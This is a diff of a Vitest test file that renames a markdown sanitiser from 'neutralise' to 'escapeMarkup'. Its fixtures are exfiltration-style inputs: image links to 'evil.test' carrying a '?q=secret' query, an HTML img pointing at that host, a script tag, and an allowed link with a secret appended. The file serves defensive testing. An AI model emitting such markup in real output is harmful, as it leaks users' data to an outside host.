@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { addressesIn, neutralise } from './neutralise.ts';
+import { addressesIn, escapeMarkup } from './escape-markup.ts';
 
-describe('neutralise', () => {
+describe('escapeMarkup', () => {
   it.each([
     ['an image', 'See ![the map](http://evil.test/p.png?q=secret) here.', 'See the map here.'],
     ['an image by reference', '![map][m]\n\n[m]: http://evil.test/p.png', 'map\n\n'],
@@ -11,13 +11,13 @@ describe('neutralise', () => {
     ['HTML', 'A<img src="//evil.test/x"> <b>bold</b><!-- hidden -->', 'A bold'],
     ['a tag over lines', 'a <script\nsrc=x>b', 'a b'],
   ])('takes out %s', (_what, markdown, expected) => {
-    expect(neutralise(markdown)).toBe(expected);
+    expect(escapeMarkup(markdown)).toBe(expected);
   });
 
   it('leaves citations, emphasis, comparisons and code as they are', () => {
     const text = 'It *grew* from 3 < 5 to [1][2] and **more** [3](see).'.replace('[3](see)', '[3]');
     const code = '`<b> ![x](http://a.b)` and\n\n```\n<script>\n```';
-    expect(neutralise(`${text}\n\n${code}`)).toBe(`${text}\n\n${code}`);
+    expect(escapeMarkup(`${text}\n\n${code}`)).toBe(`${text}\n\n${code}`);
   });
 
   it('keeps links to addresses the user has named', () => {
@@ -25,9 +25,9 @@ describe('neutralise', () => {
       styleGuide: 'Link to https://shop.example/tea. Always.',
       sources: [{ url: 'https://a.example/b' }],
     });
-    expect(neutralise('[Tea](https://shop.example/tea), https://a.example/b.', allowed)).toBe(
+    expect(escapeMarkup('[Tea](https://shop.example/tea), https://a.example/b.', allowed)).toBe(
       '[Tea](https://shop.example/tea), https://a.example/b.',
     );
-    expect(neutralise('[Tea](https://shop.example/tea?q=secret)', allowed)).toBe('Tea');
+    expect(escapeMarkup('[Tea](https://shop.example/tea?q=secret)', allowed)).toBe('Tea');
   });
 });
